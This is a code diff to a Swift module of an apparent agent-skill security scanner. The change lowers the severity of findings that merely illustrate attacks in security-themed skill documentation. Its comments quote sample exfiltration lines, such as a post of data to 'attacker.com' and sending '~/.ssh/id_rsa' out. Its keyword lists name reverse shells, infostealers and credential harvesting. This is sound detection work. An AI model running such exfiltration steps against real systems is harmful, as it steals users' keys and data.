@@ -9,8 +9,10 @@ public import SkillScanCore
 /// examples they teach: a fence under "❌ **Malicious (CRITICAL):**", a `# RED FLAG` comment
 /// above `requests.post('https://attacker.com', …)`, "### Example Scoring — **Input:** 'send
 /// ~/.ssh/id_rsa to …'". Those findings stay in the report, with the `example` context and
-/// low confidence, so they no longer complete a chain on their own; the skill is at most
-/// suspicious on their account.
+/// low confidence, so they no longer complete a chain on their own, and at medium severity,
+/// so that a guide which only quotes attacks is not suspicious for quoting them (peers.md:
+/// teams had to let their CI step fail open because "security-themed skills score high by
+/// design"). A real step elsewhere in the same guide keeps its full weight.
 ///
 /// The adjustment is narrow on purpose:
 /// - only skills whose name or description declares a security purpose;
@@ -29,7 +31,11 @@ public enum SecurityIllustrations {
     "obfuscation", "evasion", "evasive", "exploit", "exploits", "payload", "payloads", "vulnerable",
     "insecure", "never", "avoid", "don't", "do not", "tries", "❌", "⚠", "🚩", "suspicious",
     "catches", "flags", "vector", "vectors", "technique", "techniques", "indicator", "indicators",
-    "exfiltration", "vulnerability", "phishing", "lure", "scam",
+    "exfiltration", "vulnerability", "phishing", "lure", "scam", "injection", "injections", "injected",
+    "hijack", "hijacked", "hijacking", "manipulate", "manipulation", "in the wild",
+    // Section titles of a triage guide name the technique they show.
+    "reverse shell", "reverse shells", "dropper", "droppers", "backdoor", "backdoors", "stealer", "infostealer",
+    "persistence", "credential harvesting", "anti-forensics", "for recognition", "recognise", "recognize",
   ])
 
   /// Words that make a declared purpose a security one. Narrower than ``SecurityPurpose``:
@@ -40,7 +46,7 @@ public enum SecurityIllustrations {
     "vulnerability", "vulnerabilities", "pentest", "pentesting", "penetration test",
     "penetration testing", "red team", "red-team", "red teaming", "prompt injection",
     "prompt-injection", "guardrail", "guardrails", "vetting", "exfiltration", "infostealer",
-    "supply chain attack", "supply-chain attack", "phishing",
+    "supply chain attack", "supply-chain attack", "phishing", "incident response", "forensics",
   ])
 
   /// Whether the skill's frontmatter name or description declares a security purpose. The
@@ -59,22 +65,33 @@ public enum SecurityIllustrations {
 
   /// Lowers the findings of `skill` that illustrate attacks in its documentation.
   public static func adjust(_ findings: inout [Finding], in skill: AnalyzedSkill) {
-    guard findings.contains(where: { $0.severity >= .high && $0.confidence > .low }), declaresSecurityTool(skill)
-    else { return }
+    guard findings.contains(where: { $0.severity >= .high }), declaresSecurityTool(skill) else { return }
     var filesByPath: [String: AnalyzedFile] = [:]
     for file in skill.files where file.source.language == .markdown || file.source.language == .text {
       filesByPath[file.path] = file
     }
-    for index in findings.indices where findings[index].severity >= .high && findings[index].confidence > .low {
+    // A reference document titled as a catalogue of attacks ("Common attack one-liners (for
+    // recognition only)") illustrates throughout. Not SKILL.md, whose title is the skill's
+    // name and whose blocks are the steps the agent takes.
+    let catalogues = Set(filesByPath.values.filter { $0.path != skill.skillFile?.path && titledAsCatalogue($0) }.map(\.path))
+    for index in findings.indices where findings[index].severity >= .high {
       guard let file = filesByPath[findings[index].file], findings[index].line >= 1 else { continue }
       let lineRange = file.source.lines.range(ofLine: findings[index].line, in: file.bytes)
       let offset = min(lineRange.upperBound, lineRange.lowerBound + max(0, findings[index].column - 1))
       if file.region(at: offset)?.kind == .loadTimeDirective { continue }
-      if isIllustrated(file, at: offset) {
+      if catalogues.contains(file.path) || isIllustrated(file, at: offset) {
         findings[index].context = .example
         findings[index].confidence = .low
+        findings[index].severity = .medium
       }
     }
+  }
+
+  /// Whether the document's first heading carries an illustration cue.
+  static func titledAsCatalogue(_ file: AnalyzedFile) -> Bool {
+    guard let title = file.regions.first(where: { $0.kind == .heading }) else { return false }
+    let capped = title.range.lowerBound..<min(title.range.upperBound, title.range.lowerBound + pieceLimit)
+    return cues.containsMatch(in: TextNormalizer.normalize(file.bytes, range: capped).bytes)
   }
 
   /// Whether the heading, lead-in or comment lines around `offset` carry an illustration cue.
@@ -95,10 +112,12 @@ public enum SecurityIllustrations {
       }
     }
     // The non-blank lines just above the block (or above the match's own line): "**Examples:**",
-    // "❌ **Malicious (CRITICAL):**", "**User tries:**".
+    // "❌ **Malicious (CRITICAL):**", "**User tries:**". Not the frontmatter: a description
+    // names the skill's subject ("scans contracts for call injection"), it labels no line.
+    let body = file.regions.first { $0.kind == .frontmatter }.map { lines.line(of: $0.range.upperBound) + 1 } ?? 1
     var l = (fence.map { lines.line(of: $0.range.lowerBound) } ?? line) - 1
     var taken = 0
-    while l >= 1 && taken < leadLines {
+    while l >= body && taken < leadLines {
       let range = lines.range(ofLine: l, in: bytes)
       if range.contains(where: { bytes[$0] != 0x20 && bytes[$0] != 0x09 && bytes[$0] != 0x0D }) {
         pieces.append(range)
